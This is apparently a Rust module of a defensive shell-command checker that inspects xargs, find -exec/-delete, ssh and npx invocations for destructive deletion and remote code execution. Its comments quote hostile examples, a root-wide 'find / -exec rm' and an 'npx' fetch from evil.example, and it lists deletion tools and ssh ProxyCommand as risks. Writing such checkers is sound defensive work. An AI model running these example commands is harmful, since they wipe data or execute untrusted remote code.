//! Commands that run another command per item or elsewhere: `xargs`, `find -exec` /
//! `-delete`, and `ssh host command`. Each re-enters the checker one level deeper.

use super::dispatch::join;
use super::paths::{basename, is_data_dir, resolve, root_kind};
use super::rules::{self, DELETE};
use super::{Arg, Check, Checker, Flow};

impl Checker {
    /// `xargs [flags] cmd args`: the command gets the words of stdin when they are known.
    pub(super) fn xargs(&mut self, args: &[Arg], stdin: &Flow) -> Check<Flow> {
        let mut replace = None;
        let mut i = 1;
        while let Some(a) = args.get(i).map(|a| a.text.as_str()) {
            if !a.starts_with('-') {
                break;
            }
            i += 1;
            match a {
                "--" => break,
                "-I" => {
                    replace = args.get(i).map(|a| a.text.clone());
                    i += 1;
                }
                _ if a.starts_with("-I") => replace = Some(a[2..].to_string()),
                "-i" | "--replace" => replace = Some("{}".to_string()),
                "-n" | "-L" | "-P" | "-s" | "-d" | "-E" | "-a" => i += 1,
                _ => {}
            }
        }
        let words: Vec<&str> = stdin
            .text
            .as_deref()
            .map_or(Vec::new(), |t| t.split_whitespace().collect());
        let mut command: Vec<Arg> = args.iter().skip(i).cloned().collect();
        match replace {
            Some(r) => {
                let value = words.first().copied().unwrap_or_default();
                for arg in &mut command {
                    arg.text = arg.text.replace(&r, value);
                }
            }
            None => command.extend(words.iter().map(|w| Arg::new(w))),
        }
        if stdin.text.is_none() && stdin != &Flow::default() {
            // Unknown words that carry what stdin carried (downloaded, secret…).
            command.push(Arg {
                text: "$(…)".to_string(),
                flow: stdin.taint(),
            });
        }
        self.nested_run(command, &stdin.taint())
    }

    /// `find ROOTS… -delete` and `-exec CMD {} ;`, with `{}` standing for each root.
    pub(super) fn find(&mut self, args: &[Arg]) -> Check<Flow> {
        let texts: Vec<&str> = args.iter().skip(1).map(|a| a.text.as_str()).collect();
        let roots: Vec<&str> = texts
            .iter()
            .copied()
            .filter(|t| !matches!(*t, "-H" | "-L" | "-P"))
            .take_while(|t| !t.starts_with('-') && !matches!(*t, "(" | "!"))
            .collect();
        let roots = if roots.is_empty() { vec!["."] } else { roots };
        let cwd = self.cwd.clone();
        // Filters make a find under `~/Documents` a cleanup; under `/` or `~` nothing does.
        let filtered = texts.iter().any(|t| {
            matches!(
                *t,
                "-name"
                    | "-iname"
                    | "-path"
                    | "-ipath"
                    | "-regex"
                    | "-iregex"
                    | "-mtime"
                    | "-mmin"
                    | "-size"
                    | "-newer"
                    | "-empty"
            )
        });
        let dangerous = roots.iter().find(|r| {
            let path = resolve(r, cwd.as_deref());
            root_kind(&path).is_some() || (is_data_dir(&path) && !filtered)
        });
        let mut i = 0;
        while let Some(t) = texts.get(i) {
            i += 1;
            if *t == "-delete" {
                if let Some(root) = dangerous {
                    return Err(rules::reason(DELETE, root));
                }
            } else if matches!(*t, "-exec" | "-execdir" | "-ok" | "-okdir") {
                let end = texts[i..].iter().position(|t| *t == ";" || *t == "+");
                let end = end.map_or(texts.len(), |e| i + e);
                // `find / -exec rm {} +` deletes what it finds under `/`, one file at a time.
                let deletes = texts[i..end]
                    .first()
                    .is_some_and(|c| matches!(basename(c), "rm" | "shred" | "unlink" | "srm"));
                if let Some(root) = dangerous.filter(|_| deletes) {
                    return Err(rules::reason(DELETE, root));
                }
                for root in &roots {
                    let command = texts[i..end]
                        .iter()
                        .map(|t| Arg::new(&t.replace("{}", root)))
                        .collect();
                    self.nested_run(command, &Flow::default())?;
                }
                i = end;
            }
        }
        Ok(Flow::default())
    }

    /// `ssh [flags] host command…`: the remote command is shell too.
    pub(super) fn ssh(&mut self, args: &[Arg]) -> Check<Flow> {
        let mut i = 1;
        while let Some(a) = args.get(i).map(|a| a.text.as_str()) {
            if !a.starts_with('-') {
                break;
            }
            i += 1;
            // `-o ProxyCommand=…` and `LocalCommand` run on this machine.
            let option = match a {
                "-o" => args.get(i).map(|o| o.text.as_str()),
                _ => a.strip_prefix("-o"),
            };
            if let Some((key, value)) = option.and_then(|o| o.split_once(['=', ' ']))
                && (key.eq_ignore_ascii_case("ProxyCommand")
                    || key.eq_ignore_ascii_case("LocalCommand"))
            {
                self.text(value)?;
            }
            if a.len() == 2 && "bcDEeFIiJLlmOopQRSWw".contains(&a[1..]) {
                i += 1;
            }
        }
        self.code(&join(args.get(i + 1..).unwrap_or_default()))?;
        Ok(Flow::default())
    }

    fn nested_run(&mut self, command: Vec<Arg>, stdin: &Flow) -> Check<Flow> {
        self.enter()?;
        let out = self.run(command, stdin)?;
        self.depth -= 1;
        Ok(out)
    }

    /// `npx [-y] [-p pkg] cmd args`, `npm exec -c 'cmd'`: the package's command, or the
    /// shell code of `-c`, runs.
    pub(super) fn package_runner(
        &mut self,
        args: &[Arg],
        start: usize,
        stdin: &Flow,
    ) -> Check<Flow> {
        let mut i = start;
        while let Some(a) = args.get(i).map(|a| a.text.as_str()) {
            i += 1;
            match a {
                "-c" | "--call" => {
                    if let Some(code) = args.get(i) {
                        self.code(code)?;
                    }
                    return Ok(Flow::default());
                }
                "-p" | "--package" => i += 1,
                "--" => break,
                _ if a.starts_with('-') => {}
                _ => {
                    i -= 1;
                    break;
                }
            }
        }
        let command = args.get(i..).unwrap_or_default().to_vec();
        // `npx https://evil.example/pkg.tgz`: a package fetched from an address and run.
        if command.first().is_some_and(|p| {
            let p = p.text.as_str();
            p.starts_with("http://") || p.starts_with("https://") || p.starts_with("git+")
        }) {
            return Err(rules::RCE.to_string());
        }
        self.enter()?;
        let out = self.run(command, stdin)?;
        self.depth -= 1;
        Ok(out)
    }
}

/// Programs that run the command after their flags (tracers, sandboxes, session helpers),
/// with the short flags that take a value.
pub(super) fn runner_values(name: &str) -> Option<&'static str> {
    match name {
        "strace" | "ltrace" => Some("oepsuEabIXP"),
        "valgrind" | "catchsegv" | "dbus-launch" | "xvfb-run" | "torify" | "tsocks" => Some("sn"),
        "systemd-run" => Some("pEuMH"),
        "unshare" | "firejail" | "cgexec" | "faketime" | "chrt" | "sg" => Some("gSRwf"),
        _ => None,
    }
}
